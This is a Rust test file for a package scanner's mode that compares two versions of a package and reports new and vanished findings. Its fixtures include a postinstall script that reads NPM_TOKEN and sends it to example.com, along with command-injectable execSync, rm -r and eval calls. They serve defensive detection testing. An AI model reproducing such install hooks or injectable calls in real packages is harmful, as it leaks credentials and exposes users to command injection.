//! `vyre scan NEW --compare OLD`.

use serde_json::Value;

use crate::harness::{Run, Sandbox};

const OLD: [(&str, &str); 3] = [
    (
        "old/package/package.json",
        "{\n  \"name\": \"small\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n  \"scripts\": { \"test\": \"node test.js\" }\n}\n",
    ),
    (
        "old/package/index.js",
        "const { execSync } = require('child_process');\nconst fs = require('fs');\nexports.list = function list(folder) {\n  return execSync('ls ' + folder);\n};\nexports.gone = function gone(code) {\n  return eval(code);\n};\nexports.read = () => fs.readFileSync(__dirname + '/data.json', process.env.ENCODING);\n",
    ),
    ("old/package/data.json", "{}\n"),
];

/// The same package with moved lines, a script of the installation that calls the network, and another finding.
const NEW: [(&str, &str); 4] = [
    (
        "new/package/package.json",
        "{\n  \"name\": \"small\",\n  \"version\": \"1.1.0\",\n  \"main\": \"index.js\",\n  \"scripts\": {\n    \"test\": \"node test.js\",\n    \"postinstall\": \"node lib/setup\"\n  }\n}\n",
    ),
    (
        "new/package/index.js",
        "// A comment moves the lines.\n\nconst { execSync } = require('child_process');\nconst fs = require('fs');\nexports.list = function list(folder) {\n    return execSync('ls ' + folder);\n};\nexports.remove = function remove(folder) {\n  return execSync('rm -r ' + folder);\n};\nexports.read = () => fs.readFileSync(__dirname + '/data.json', process.env.ENCODING);\n",
    ),
    (
        "new/package/lib/setup.js",
        "const https = require('https');\nconst token = process.env.NPM_TOKEN;\nhttps.request({ host: 'example.com', path: '/' + token }).end();\n",
    ),
    ("new/package/data.json", "{}\n"),
];

fn sandbox() -> Sandbox {
    Sandbox::new(&[&OLD[..], &NEW[..]].concat())
}

fn compare(sandbox: &Sandbox, arguments: &[&str]) -> Run {
    sandbox.run(&[&["scan"][..], arguments].concat())
}

fn json(run: &Run) -> Value {
    serde_json::from_slice(&run.stdout).expect("JSON")
}

/// Kind, name, file and line of each capability of a list.
fn capabilities(report: &Value, list: &str) -> Vec<String> {
    let text = |entry: &Value| {
        let [kind, name, path] = ["kind", "name", "path"].map(|key| entry[key].as_str().expect(key));
        let install = if entry["is_at_install"] == true { " at installation" } else { "" };
        format!("{kind} {name} {path}:{}{install}", entry["line"])
    };
    report[list].as_array().expect(list).iter().map(text).collect()
}

#[test]
fn new_and_vanished_findings_and_capabilities_are_told_apart() {
    let run = compare(&sandbox(), &["new", "--compare", "old", "--format", "json"]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    let report = json(&run);
    assert_eq!(report["schema"], "pyrograph-compare-1");
    let new: Vec<&str> = report["new_findings"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|it| it["sink"]["text"].as_str())
        .collect();
    assert_eq!(new, ["execSync('rm -r ' + folder)"]);
    let vanished = &report["vanished_findings"];
    assert_eq!((vanished.as_array().map(Vec::len), &vanished[0]["rule"]), (Some(1), &Value::from("code-injection")));
    assert_eq!(report["unchanged_findings"], 1);
    assert_eq!(
        capabilities(&report, "new_capabilities"),
        [
            "install-script postinstall: node lib/setup package/package.json:7 at installation",
            "network https.request package/lib/setup.js:3 at installation",
            "environment NPM_TOKEN package/lib/setup.js:2 at installation",
        ]
    );
    assert_eq!(capabilities(&report, "vanished_capabilities"), ["dynamic-code eval package/index.js:7"]);
    assert!(run.stderr.contains("1 new finding, 3 new capabilities, compared with old"), "{}", run.stderr);
}

#[test]
fn text_shows_the_news() {
    let run = compare(&sandbox(), &["new", "--compare", "old"]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    for part in [
        "execSync('rm -r ' + folder)",
        "vanished findings:\n  - ",
        "new capabilities:\n  + install-script  postinstall: node lib/setup  (package/package.json:7:5, new kind)\n",
        "  + network         https.request  (package/lib/setup.js:3:1, run by the installation, new kind)\n",
        "vanished capabilities:\n  - dynamic-code    eval  (package/index.js:7:10)\n",
        "1 new finding, 1 vanished, 1 unchanged\n3 new capabilities, 1 vanished, 3 unchanged\n",
    ] {
        assert!(run.text().contains(part), "{part} is missing:\n{}", run.text());
    }
    assert!(!run.text().contains("'ls ' + folder"), "unchanged findings are not shown:\n{}", run.text());
}

#[test]
fn sarif_has_new_findings_only() {
    let run = compare(&sandbox(), &["new", "--compare", "old", "--format", "sarif", "-q"]);
    assert_eq!((run.code, run.stderr.as_str()), (Some(1), ""));
    let log = json(&run);
    let results = log["runs"][0]["results"].as_array().expect("results");
    assert_eq!(results.len(), 1);
    assert_eq!(results[0]["baselineState"], "new");
    assert_eq!(log["runs"][0]["properties"]["newCapabilities"].as_array().map(Vec::len), Some(3));
    assert_eq!(log["runs"][0]["properties"]["comparedWith"], "old");
}

#[test]
fn a_version_without_news_is_clean() {
    let sandbox = sandbox();
    let run = compare(&sandbox, &["new", "--compare", "new"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(
        run.text().contains("0 new findings, 0 vanished, 2 unchanged\n0 new capabilities, 0 vanished, 6 unchanged\n"),
        "{}",
        run.text()
    );
}

#[test]
fn folders_with_versions_in_their_names_are_the_same() {
    let code = "import os\n\ndef run(name):\n    os.system('ls ' + name)\n";
    let setup = "from setuptools import setup\nsetup(name='small')\n";
    let sandbox = Sandbox::new(&[
        ("old/small-1.0/small.py", code),
        ("old/small-1.0/setup.py", setup),
        ("new/small-1.1/small.py", code),
        (
            "new/small-1.1/setup.py",
            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['true'])\nopen('x', 'w')\nsetup(name='small')\n",
        ),
    ]);
    let run = compare(&sandbox, &["new", "--compare", "old", "--format", "json", "--sources", "library"]);
    let report = json(&run);
    assert_eq!(
        (&report["unchanged_findings"], report["new_findings"].as_array().map(Vec::len)),
        (&Value::from(1), Some(0))
    );
    assert_eq!(
        capabilities(&report, "new_capabilities"),
        [
            "process subprocess.run small-1.1/setup.py:3 at installation",
            "file-write open small-1.1/setup.py:4 at installation",
        ]
    );
}

#[test]
fn mistakes_of_a_comparison_are_named() {
    let sandbox = sandbox();
    for (arguments, message) in [
        (&["new", "--compare", "none"][..], "error: there is no file or folder none\n"),
        (&["new", "old", "--compare", "old"], "error: --compare takes one path to scan and one older version of it\n"),
    ] {
        let run = compare(&sandbox, arguments);
        assert_eq!((run.code, run.text(), run.stderr.as_str()), (Some(2), "", message));
    }
    let broken = Sandbox::new(&[("old/a.js", "let = ;"), ("new/a.js", "f();")]);
    let run = compare(&broken, &["new", "--compare", "old"]);
    assert_eq!(run.code, Some(2), "{}", run.text());
    assert!(run.stderr.contains("some code was not analysed"), "{}", run.stderr);
    assert_eq!(compare(&broken, &["new", "--compare", "old", "--allow-incomplete"]).code, Some(0));
}

#[test]
fn a_release_cannot_hide_what_it_adds() {
    let sandbox = Sandbox::new(&[
        ("old/a.js", "const { exec } = require('child_process');\nexec('ls');\n"),
        ("old/package.json", "{\"name\": \"x\", \"scripts\": {\"start\": \"node a\"}}\n"),
        (
            "new/a.js",
            "const { exec } = require('child_process');\nexec('ls');\nexec(process.argv[2]); // vyre-ignore command-injection: ok\n",
        ),
        ("new/package.json", "{\"name\": \"x\", \"scripts\": {\"start\": \"node a\"}}\n"),
    ]);
    let run = compare(&sandbox, &["new", "--compare", "old"]);
    assert_eq!(run.code, Some(1), "{}", run.text());
    // A manifest that cannot be read may have scripts of the installation.
    let deep = format!(
        "{{\"name\": \"x\", \"deep\": {}{}, \"scripts\": {{\"postinstall\": \"node a\"}}}}",
        "[".repeat(200),
        "]".repeat(200)
    );
    sandbox.write("deep/package.json", deep.as_bytes());
    sandbox.write("deep/a.js", b"const { exec } = require('child_process');\nexec('ls');\n");
    let run = compare(&sandbox, &["deep", "--compare", "old"]);
    assert_eq!(run.code, Some(2), "{}", run.text());
    assert!(run.stderr.contains("the comparison may miss something"), "{}", run.stderr);
    // A configuration of the new release counts for nobody.
    sandbox.write("new/vyre.toml", b"[scan]\nexclude = [\"a.js\"]\n");
    let run = compare(&sandbox, &["new", "--compare", "old"]);
    assert_eq!(run.code, Some(1), "{}", run.text());
    assert!(!run.text().contains("vyre.toml"), "{}", run.text());
}
